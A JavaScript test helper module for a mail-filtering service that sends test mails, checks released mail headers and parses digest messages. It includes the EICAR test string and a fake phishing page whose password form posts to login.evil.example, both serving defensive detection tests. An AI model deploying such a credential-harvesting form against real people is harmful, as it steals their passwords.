// What a test does besides the pages: sends mail over SMTP and looks at what came to
// the next hop. The Go side is e2e/outside_test.go.
import assert from 'node:assert/strict'

const url = process.env.OUTSIDE_URL

/** A mail of text, or of HTML, as bytes. */
export function mail(subject, body, { from = 'Erika <erika@sender.example>', to = 'bob@ours.example', type = 'text/plain' } = {}) {
  return Buffer.from([`From: ${from}`, `To: ${to}`, `Subject: ${subject}`, 'Date: Tue, 24 Nov 2026 10:00:00 +0000',
    `Message-ID: <${subject.replaceAll(/\W/g, '.')}@sender.example>`, 'MIME-Version: 1.0', `Content-Type: ${type}; charset=utf-8`, '', body, ''].join('\r\n'))
}

/** The anti-virus test file, put together here so that no scanner stops at this one. */
export const eicar = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EIC' + 'AR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'

/** Harmless, and what our rule for credential harvesting looks for. */
export const askForPassword = '<html><body><h1>Your password expires today</h1><form action="http://login.evil.example/post" method="post">' +
  '<input name="email"><input type="password" name="password"><input type="submit" value="Sign in"></form></body></html>'

export async function send(from, to, bytes) {
  const q = new URLSearchParams([['from', from], ['to', to]])
  const said = await (await fetch(`${url}/send?${q}`, { method: 'POST', body: bytes })).text()
  assert.match(said, /^"250 /)
}

/** The mails at the next hop whose bytes have a text: the envelope, and the bytes as latin1. */
export async function arrived(text) {
  const all = await (await fetch(`${url}/arrived`)).json() ?? []
  return all.map((m) => ({ from: m.From, to: m.To, raw: Buffer.from(m.Data, 'base64').toString('latin1') })).filter((m) => m.raw.includes(text))
}

/** Waits until there is one. */
export async function arrives(text, limit = 30_000) {
  for (const end = Date.now() + limit; ; await new Promise((done) => setTimeout(done, 200))) {
    const found = await arrived(text)
    if (found.length) return found
    assert.ok(Date.now() < end, `nothing with ${JSON.stringify(text)} came to the next hop`)
  }
}

/** A link of a digest as it would be if its time had been over a minute ago. */
export const expired = async (link) => (await fetch(`${url}/expired?${new URLSearchParams({ link })}`, { method: 'POST' })).json()

/** Exactly the bytes that came in, below our own lines, of which the last is the mark of a release. */
export function wantReleased(arrivedMail, sent) {
  const bytes = sent.toString('latin1')
  assert.ok(arrivedMail.raw.endsWith(bytes), 'the bytes are not those that came in')
  const top = arrivedMail.raw.slice(0, -bytes.length)
  assert.equal(top.match(/^X-Mailward-Release: /gm)?.length, 1, top)
  assert.match(top, /\r\nX-Mailward-Release: [A-Z2-7]{32}\r\n$/)
}

const quoted = (text) => Buffer.from(text.replaceAll('=\r\n', '').replaceAll(/=([0-9A-F]{2})/g, (_, hex) => String.fromCharCode(parseInt(hex, 16))), 'latin1').toString('utf8')

/** Takes a digest apart, and checks that it is a mail by the book. */
export function readDigest({ raw }) {
  assert.ok(!/[^\x00-\x7f]/.test(raw), 'more than ASCII')
  assert.ok(!/(^|[^\r])\n|\r([^\n]|$)/.test(raw), 'a line does not end in CRLF')
  assert.ok(raw.split('\r\n').every((line) => line.length <= 998), 'a line is longer than RFC 5322 allows')
  const [head, ...rest] = raw.split('\r\n\r\n')
  const field = (name) => {
    const all = [...head.matchAll(new RegExp(`^${name}: ((?:.*)(?:\\r\\n[ \\t].*)*)`, 'gim'))]
    assert.equal(all.length, 1, `${name} stands ${all.length} times in\n${head}`)
    return all[0][1].replaceAll('\r\n', '')
  }
  for (const name of ['From', 'To', 'Date', 'Message-ID', 'MIME-Version']) field(name)
  assert.equal(field('Auto-Submitted'), 'auto-generated')
  const edge = /^multipart\/alternative; boundary="(.+)"$/.exec(field('Content-Type'))[1]
  const parts = ('\r\n' + rest.join('\r\n\r\n')).split(`\r\n--${edge}`)
  assert.equal(parts.length, 4)
  assert.equal(parts[0], '')
  assert.equal(parts[3], '--\r\n')
  const [text, html] = ['plain', 'html'].map((type, i) => {
    const [partHead, ...body] = parts[i + 1].split('\r\n\r\n')
    assert.equal(partHead, `\r\nContent-Type: text/${type}; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable`)
    return quoted(body.join('\r\n\r\n'))
  })
  const subject = field('Subject').replaceAll(/=\?utf-8\?q\?(.*?)\?=/gi, (_, q) => quoted(q.replaceAll('_', ' ')))
  return { to: field('To'), subject, text, html, links: text.match(/https?:\/\/\S+\/digest\/\S+/g) ?? [] }
}
